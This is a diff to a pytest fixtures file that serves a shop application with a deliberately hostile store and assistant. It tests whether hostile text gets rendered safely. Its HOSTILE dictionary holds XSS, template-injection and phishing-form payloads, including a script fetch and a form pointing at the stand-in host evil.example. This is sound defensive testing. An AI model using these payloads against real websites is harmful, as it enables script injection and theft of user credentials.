@@ -6,10 +6,12 @@ import re
 import socket
 import subprocess
 import sys
+import threading
 import time
 import urllib.error
 import urllib.request
 from dataclasses import dataclass
+from html import escape
 from pathlib import Path
 
 import pytest
@@ -27,10 +29,11 @@ EVIL = "http://evil.example"
 HOSTILE = {
     "hostile-script": f"<script>fetch('{EVIL}/s')</script> tent",
     "hostile-image": f"<img src={EVIL}/i.png onerror=alert(1)> tent",
-    "hostile-form": f'<form action="{EVIL}/f"><input name=password><button>Pay</button></form> tent',
-    "hostile-markdown": f"![p]({EVIL}/m.png) [win](javascript:alert(1)) ${{alert(2)}} {{{{7*7}}}} tent",
-    "hostile-overlay": f'"><svg onload=alert(3)><a href="{EVIL}" style="position:fixed;inset:0">x</a> tent',
-}  # fmt: skip
+    "hostile-form": f'<form action="{EVIL}/f"><input name=p><button>Pay</button></form> tent',
+    "hostile-markdown": f"![p]({EVIL}/m.png) [win](javascript:alert(1)) tent",
+    "hostile-template": "${alert(2)} {{7*7}} {{constructor.constructor('alert(3)')()}} tent",
+    "hostile-overlay": f'"><svg onload=alert(4)><a href="{EVIL}" style="inset:0">x</a> tent',
+}
 
 
 @dataclass(frozen=True)
@@ -94,7 +97,8 @@ def hostile_store(tmp_path_factory, tiny_files, tiny_config):
     products, reviews = folder / "products.jsonl", folder / "reviews.jsonl"
     rows = [
         {
-            "product_id": product_id, "title": title, "description": title, "brand": title,
+            # Import strips markup; what is escaped once arrives as the characters themselves.
+            "product_id": product_id, "title": escape(title), "description": title, "brand": title,
             "category": ["Outdoor", "Camping", "Tents"], "price": 99.0, "currency": "EUR",
             "stock": 9, "rating": 4.0, "rating_count": 3,
             "attributes": {"material": title[:80]},
@@ -131,6 +135,26 @@ def two_shops(tmp_path_factory, tiny_store, hostile_store):
     """The application with two shops, one of them hostile, and no agents' page."""
     folder = tmp_path_factory.mktemp("two")
     yield from serve([tiny_store, hostile_store], folder, AGENT_PASSWORD="")
+
+
+@pytest.fixture(scope="session")
+def hostile_site(tmp_path_factory):
+    """The screens over a service whose every text is an attack, in this process."""
+    import uvicorn
+
+    import app
+    from tests.browser.hostile import HostileAssistant
+
+    port = free_port()
+    built = app.build_app(app.read_settings({"PORT": str(port)}), [HostileAssistant(HOSTILE)])
+    server = uvicorn.Server(uvicorn.Config(built, port=port, log_level="warning"))
+    thread = threading.Thread(target=server.run, daemon=True)
+    thread.start()
+    while not server.started:
+        time.sleep(0.05)
+    yield Site(url=f"http://127.0.0.1:{port}", log=tmp_path_factory.mktemp("hostile") / "none")
+    server.should_exit = True
+    thread.join(timeout=10)
 
 
 @pytest.fixture(scope="session")
